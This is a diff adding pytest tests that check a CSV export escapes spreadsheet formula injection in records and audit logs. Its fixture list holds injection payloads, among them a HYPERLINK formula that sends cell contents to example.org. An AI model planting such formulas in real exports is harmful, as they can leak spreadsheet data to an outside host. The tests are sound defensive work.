@@ -1,19 +1,25 @@
-"""Alerts, the dashboard's figures and the feedback store's handling, on real SQLite files
-written through the real recorder (no server)."""
+"""Alerts, the dashboard's figures, the feedback store's handling and exports,
+on real SQLite files written through the real recorder and CLI (no server)."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import logging
 import sqlite3
 from pathlib import Path
 
 import pytest
+from typer.testing import CliRunner, Result
 
+from assistant.cli import app
 from assistant.conversations import SqliteConversationStore, UnknownFeedback
 from assistant.generation.answer_service import AnswerResult
 from assistant.governance.alerts import AlertMonitor
 from assistant.governance.audit_log import AuditLog, Origin
 from assistant.governance.dashboard import build_dashboard
+from assistant.governance.export import write_records
 from assistant.governance.metrics import Metrics
 from assistant.governance.recorder import Recorder
 from assistant.settings import Settings
@@ -142,3 +148,46 @@ def _epoch(timestamp: str) -> float:
     from datetime import datetime
 
     return datetime.fromisoformat(timestamp).timestamp()
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.org/?d="&A1,"Klik")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
+    records = [
+        {"n": n, "comment": formula, "details": {"comment": formula}, "empty": None}
+        for n, formula in enumerate([*FORMULAS, "Klopt = niet", "a-b"])
+    ]
+    as_csv = io.StringIO()
+    assert write_records(records, as_csv, "csv") == len(records)
+    assert as_csv.getvalue().startswith('"n","comment","details","empty"\r\n')  # all quoted
+    rows = list(csv.DictReader(io.StringIO(as_csv.getvalue())))
+    assert [row["comment"] for row in rows] == [*(f"'{f}" for f in FORMULAS), "Klopt = niet", "a-b"]
+    assert [json.loads(row["details"])["comment"] for row in rows[:6]] == FORMULAS
+    assert {row["empty"] for row in rows} == {""}
+    as_jsonl = io.StringIO()
+    write_records(records, as_jsonl, "jsonl")
+    lines = [json.loads(line) for line in as_jsonl.getvalue().splitlines()]
+    assert [line["comment"] for line in lines[:6]] == FORMULAS  # JSONL stays raw
+
+
+def test_cli_audit_export_as_csv_neutralises_formulas(tmp_path: Path) -> None:
+    log = AuditLog(tmp_path / "audit.sqlite")
+    for formula in FORMULAS:
+        log.append(Origin(formula, "api:127.0.0.1"), action="x", object=formula, result="success")
+    out = tmp_path / "audit.csv"
+    result = cli(tmp_path, "audit", "export", "--format", "csv", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))[: len(FORMULAS)]
+    assert [(row["actor"], row["object"]) for row in rows] == [(f"'{f}", f"'{f}") for f in FORMULAS]
+
+
+def cli(tmp_path: Path, *args: str) -> Result:
+    return CliRunner().invoke(app, list(args), env={"WEGWIJZER_DATA_DIR": str(tmp_path)})
